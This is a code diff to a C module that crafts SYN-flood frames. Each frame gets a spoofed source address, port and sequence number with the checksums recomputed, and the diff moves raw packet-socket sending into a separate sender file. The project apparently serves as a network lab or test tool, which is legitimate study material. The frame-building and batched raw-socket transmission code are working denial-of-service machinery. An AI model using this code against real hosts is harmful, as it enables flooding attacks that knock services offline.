@@ -1,22 +1,17 @@
 /*
  * craft/flood.c - the fast path for SYN floods (RFC 4987 §2 describes the
  * attack): one template frame, per-frame source address, port and ISN with
- * the IPv4/IPv6 and TCP checksums recomputed, batches of FLOOD_BATCH frames
- * per sendmmsg() on an AF_PACKET socket.
+ * the IPv4/IPv6 and TCP checksums recomputed.  Frames go out through a
+ * sender (craft/flood-tx.c: a packet socket with a transmit ring), or from
+ * several threads at once (craft/flood-mt.c).
  */
 #include <arpa/inet.h>
-#include <errno.h>
-#include <linux/if_packet.h>
-#include <net/ethernet.h>
-#include <net/if.h>
 #include <stdlib.h>
 #include <string.h>
-#include <sys/socket.h>
-#include <unistd.h>
 
 #include "core/xmalloc.h"
 #include "craft/flood.h"
-#include "lab/priv.h"
+#include "craft/flood-tx.h"
 
 struct flood {
 	uint8_t			 tmpl[128];	/* Ethernet + IP + TCP with options */
@@ -25,9 +20,7 @@ struct flood {
 	int			 family;
 	uint32_t		 lo, span;	/* IPv4 spoof range */
 	uint64_t		 seed;
-	int			 fd;
-	int			 ifindex;
-	uint8_t			 frames[FLOOD_BATCH][128];
+	struct flood_tx		*tx;		/* flood_open's sender */
 };
 
 /* A 64-bit mix of x (splitmix64): the per-frame randomness. */
@@ -60,7 +53,6 @@ flood_new(uint16_t flags, const struct addr *lo, const struct addr *hi,
 		return (NULL);
 	}
 	f = xcalloc(1, sizeof *f);
-	f->fd = -1;
 	f->family = lo->family;
 	f->seed = seed;
 	memset(&s, 0, sizeof s);
@@ -103,20 +95,19 @@ flood_new(uint16_t flags, const struct addr *lo, const struct addr *hi,
 	return (f);
 }
 
-/* Free f and close its socket. */
+/* Free f and close its sender. */
 void
 flood_free(struct flood *f)
 {
 	if (f == NULL)
 		return;
-	if (f->fd != -1)
-		close(f->fd);
+	flood_tx_close(f->tx);
 	free(f);
 }
 
 /* Build frame number i: its own source address, port and ISN, checksums fixed. */
 size_t
-flood_frame(struct flood *f, uint64_t i, uint8_t *buf, size_t cap)
+flood_frame(const struct flood *f, uint64_t i, uint8_t *buf, size_t cap)
 {
 	uint64_t	r = flood_mix(f->seed ^ (i * 0x2545f4914f6cdd1dULL));
 	uint8_t		*ip, *th;
@@ -155,57 +146,20 @@ flood_frame(struct flood *f, uint64_t i, uint8_t *buf, size_t cap)
 	return (f->len);
 }
 
-/* Open the packet socket on ifname. */
+/* Open the sender on ifname. */
 int
 flood_open(struct flood *f, const char *ifname, char **cause)
 {
-	if ((f->ifindex = (int)if_nametoindex(ifname)) == 0) {
-		*cause = xasprintf("flood: interface %s: %s", ifname,
-		    strerror(errno));
-		return (-1);
-	}
-	priv_raise();	/* CAP_NET_RAW, kept for this */
-	f->fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
-	priv_lower();
-	if (f->fd == -1) {
-		*cause = xasprintf("flood: packet socket: %s%s", strerror(errno),
-		    errno == EPERM ? " (needs CAP_NET_RAW)" : "");
-		return (-1);
-	}
-	return (0);
+	if (f->tx != NULL)
+		return (0);
+	return ((f->tx = flood_tx_open(f, ifname, cause)) != NULL ? 0 : -1);
 }
 
-/* Send frames first .. first+n-1 with one sendmmsg(). */
+/* Send frames first .. first+n-1 through the sender flood_open opened. */
 int
 flood_send(struct flood *f, uint64_t first, int n, char **cause)
 {
-	struct mmsghdr		msgs[FLOOD_BATCH];
-	struct iovec		iov[FLOOD_BATCH];
-	struct sockaddr_ll	sll;
-	int			i, sent;
-
 	if (n > FLOOD_BATCH)
 		n = FLOOD_BATCH;
-	memset(&sll, 0, sizeof sll);
-	sll.sll_family = AF_PACKET;
-	sll.sll_ifindex = f->ifindex;
-	sll.sll_halen = 6;
-	memcpy(sll.sll_addr, f->tmpl, 6);
-	memset(msgs, 0, sizeof msgs);
-	for (i = 0; i < n; i++) {
-		iov[i].iov_base = f->frames[i];
-		iov[i].iov_len = flood_frame(f, first + (uint64_t)i, f->frames[i],
-		    sizeof f->frames[i]);
-		msgs[i].msg_hdr.msg_iov = &iov[i];
-		msgs[i].msg_hdr.msg_iovlen = 1;
-		msgs[i].msg_hdr.msg_name = &sll;
-		msgs[i].msg_hdr.msg_namelen = sizeof sll;
-	}
-	if ((sent = sendmmsg(f->fd, msgs, (unsigned)n, 0)) == -1) {
-		if (errno == ENOBUFS || errno == EAGAIN)
-			return (0);	/* the queue is full: try again later */
-		*cause = xasprintf("flood: sendmmsg: %s", strerror(errno));
-		return (-1);
-	}
-	return (sent);
+	return (flood_tx_send(f->tx, first, n, cause));
 }
